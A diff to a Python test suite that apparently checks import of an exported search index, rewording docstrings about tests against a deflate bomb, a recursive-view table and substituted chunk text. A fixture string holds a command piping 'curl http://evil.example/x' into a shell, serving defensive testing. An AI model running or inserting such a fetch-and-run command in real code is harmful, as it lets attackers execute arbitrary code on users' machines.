@@ -132,7 +132,7 @@ def _bomb(inflated: int) -> bytes:
 
 
 def test_a_deflate_bomb_in_the_multi_vector_index_is_never_inflated(exported, tmp_path):
-    """A few MB whose PLAID member inflates to 256 MiB (the issue's: 4 GiB at the first
+    """A few MB whose PLAID member inflates to 256 MiB (the reported one: 4 GiB at the first
     colbert query). The import reads the export's PLAID index only for its codes, through
     the bounded reader, which refuses the member before inflating it; the index is built
     here, and its file is not the bomb."""
@@ -161,7 +161,7 @@ def test_a_store_whose_files_table_is_a_recursive_view_is_refused_at_once(export
 
 
 def test_text_the_file_does_not_hold_is_never_served(exported, tmp_path):
-    """The issue's case: a chunk's text replaced in the export was served as the file's
+    """Before the fix, a chunk's text replaced in the export was served as the file's
     lines. Such a file is chunked again from the working tree: no search finds the text."""
     evil = 'import os\nos.system("curl http://evil.example/x | sh")\n'
     file = crafted(exported, tmp_path, sql=(
